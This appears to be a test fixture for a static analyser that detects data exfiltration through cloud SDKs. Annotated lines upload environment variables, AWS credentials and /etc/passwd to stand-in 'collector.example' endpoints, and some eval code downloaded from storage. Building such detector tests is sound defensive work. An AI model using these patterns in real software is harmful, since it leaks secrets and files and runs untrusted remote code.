// Cloud storage and services.
const AWS = require("aws-sdk");
const axios = require("axios");
const azure = require("@azure/storage-blob");
const cloudinary = require("cloudinary");
const credentials = require("@aws-sdk/credential-providers");
const database = require("firebase/database");
const dropbox = require("dropbox");
const gcs = require("@google-cloud/storage");
const googleapis = require("googleapis");
const presigner = require("@aws-sdk/s3-request-presigner");
const s3 = require("@aws-sdk/client-s3");
const sqs = require("@aws-sdk/client-sqs");
const storage = require("@aws-sdk/lib-storage");
const supabase = require("@supabase/supabase-js");

const U = "https://collector.example/u";

async function awsThree() {
  const client = new s3.S3Client({ endpoint: "https://s3.collector.example" }); //~ capability(NETWORK), endpoint("https://s3.collector.example")
  await client.send(new s3.PutObjectCommand({ Body: process.env.T })); //~ source(ENVIRONMENT) f1, sink(egress.cloud) f1, finding(traced) f1
  await new sqs.SQSClient({}).send(new sqs.SendMessageCommand({ MessageBody: process.env.T })); //~ source(ENVIRONMENT) f2, sink(egress.cloud) f2, finding(traced) f2
  new storage.Upload({ client, params: { Body: process.env.T } }); //~ source(ENVIRONMENT) f3, sink(egress.cloud) f3, finding(traced) f3, capability(NETWORK)
  axios.post(U, await presigner.getSignedUrl(client, new s3.GetObjectCommand({ Key: process.env.T }))); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4, capability(NETWORK)
}

async function awsThreeQuiet() {
  const client = new s3.S3Client({}); //~ ok
  await client.send(new s3.PutObjectCommand({ Body: "ping" })); //~ ok
  await client.send(new sqs.SendMessageCommand({ MessageBody: "ping" })); //~ ok
  new storage.Upload({ client, params: { Body: "ping" } }); //~ ok
  axios.post(U, await presigner.getSignedUrl(client, new s3.GetObjectCommand({ Key: "x" }))); //~ ok
}

async function awsTwo() {
  const service = new AWS.S3({ endpoint: "https://s2.collector.example" }); //~ capability(NETWORK), endpoint("https://s2.collector.example")
  await service.putObject({ Body: process.env.T }).promise(); //~ source(ENVIRONMENT) f5, sink(egress.cloud) f5, finding(traced) f5
  eval((await service.getObject({ Key: "run.js" }).promise()).Body); //~ source(NETWORK) f6, sink(exec.code) f6, finding(traced) f6
  service.getObject({ Key: process.env.T }); //~ source(ENVIRONMENT) f7, sink(egress.cloud) f7, finding(traced) f7
}

async function awsTwoQuiet() {
  const service = new AWS.S3({}); //~ ok
  await service.putObject({ Body: "ping" }).promise(); //~ ok
  axios.post(U, { none: (await service.getObject({ Key: "run.js" }).promise()) === null }); //~ ok
}

function awsCredentials() {
  axios.post(U, credentials.fromEnv()); //~ source(CREDENTIAL) f8, sink(egress.http) f8, finding(traced) f8, capability(CREDENTIALS)
  axios.post(U, { none: credentials.fromEnv() === null }); //~ ok
}

async function google() {
  const bucket = new gcs.Storage().bucket("b"); //~ capability(NETWORK)
  await bucket.file("f").save(process.env.T); //~ source(ENVIRONMENT) f9, sink(egress.cloud) f9, finding(traced) f9
  await bucket.upload("/etc/passwd"); //~ source(FILE) f10, sink(egress.cloud) f10, finding(traced) f10, capability(FILES)
  bucket.file("f").createWriteStream().write(process.env.T); //~ source(ENVIRONMENT) f11, sink(egress.cloud) f11, finding(traced) f11
  require("fs").createReadStream("/etc/passwd").pipe(bucket.file("f").createWriteStream()); //~ source(FILE) f12, sink(egress.cloud) f12, finding(traced) f12
  eval(await bucket.file("f").download()); //~ source(NETWORK) f13, sink(exec.code) f13, finding(traced) f13
}

async function googleQuiet() {
  const bucket = new gcs.Storage().bucket("b"); //~ ok
  await bucket.file("f").save("ping"); //~ ok
  axios.post(U, { has: bucket.upload === undefined }); //~ ok
  bucket.file("f").createWriteStream().write("ping"); //~ ok
  null.pipe(bucket.file("f").createWriteStream()); //~ ok
  axios.post(U, { none: (await bucket.file("f").download()) === null }); //~ ok
}

async function azureBlobs() {
  const service = new azure.BlobServiceClient("https://blob.collector.example"); //~ capability(NETWORK), endpoint("https://blob.collector.example")
  const blob = service.getContainerClient("c").getBlockBlobClient("b");
  await blob.uploadData(process.env.T); //~ source(ENVIRONMENT) f14, sink(egress.cloud) f14, finding(traced) f14
  await blob.uploadFile("/etc/passwd"); //~ source(FILE) f15, sink(egress.cloud) f15, finding(traced) f15, capability(FILES)
  await service.getContainerClient("c").uploadBlockBlob("b", process.env.T); //~ source(ENVIRONMENT) f16, sink(egress.cloud) f16, finding(traced) f16
  eval(await blob.downloadToBuffer()); //~ source(NETWORK) f17, sink(exec.code) f17, finding(traced) f17
}

async function azureQuiet() {
  const service = new azure.BlobServiceClient("https://blob.collector.example"); //~ ok
  const blob = service.getContainerClient("c").getBlockBlobClient("b"); //~ ok
  await blob.uploadData("ping"); //~ ok
  axios.post(U, { has: blob.uploadFile === undefined }); //~ ok
  await service.getContainerClient("c").uploadBlockBlob("b", "ping"); //~ ok
  axios.post(U, { none: (await blob.downloadToBuffer()) === null }); //~ ok
}

async function firebase() {
  database.set(null, process.env.T); //~ source(ENVIRONMENT) f18, sink(egress.cloud) f18, finding(traced) f18, capability(NETWORK)
  database.set(null, "ping"); //~ ok
  database.onValue(null, (snapshot) => eval(snapshot.val())); //~ source(NETWORK) f19, sink(exec.code) f19, finding(traced) f19, capability(NETWORK)
  database.onValue(null, (snapshot) => axios.post(U, { none: snapshot.val() === null })); //~ ok
}

async function supabaseRows() {
  const client = supabase.createClient("https://sb.collector.example", "k"); //~ capability(NETWORK), endpoint("https://sb.collector.example")
  await client.from("t").insert({ t: process.env.T }); //~ source(ENVIRONMENT) f20, sink(egress.cloud) f20, finding(traced) f20
  await client.storage.from("b").upload("f", process.env.T); //~ source(ENVIRONMENT) f21, sink(egress.cloud) f21, finding(traced) f21
  await client.from("t").insert({ t: 1 }); //~ ok
  await client.storage.from("b").upload("f", "ping"); //~ ok
  supabase.createClient("https://sb.collector.example", "k"); //~ ok
}

async function others() {
  const box = new dropbox.Dropbox({}); //~ capability(NETWORK)
  await box.filesUpload({ contents: process.env.T }); //~ source(ENVIRONMENT) f22, sink(egress.cloud) f22, finding(traced) f22
  await new dropbox.Dropbox({}).filesUpload({ contents: "ping" }); //~ ok
  await cloudinary.uploader.upload("/etc/passwd"); //~ source(FILE) f23, sink(egress.cloud) f23, finding(traced) f23, capability(FILES)
  axios.post(U, { has: cloudinary.uploader.upload === undefined }); //~ ok
  const drive = googleapis.google.drive("v3"); //~ capability(NETWORK)
  await drive.files.create({ media: { body: process.env.T } }); //~ source(ENVIRONMENT) f24, sink(egress.cloud) f24, finding(traced) f24
  await googleapis.google.drive("v3").files.create({ media: { body: "ping" } }); //~ ok
}
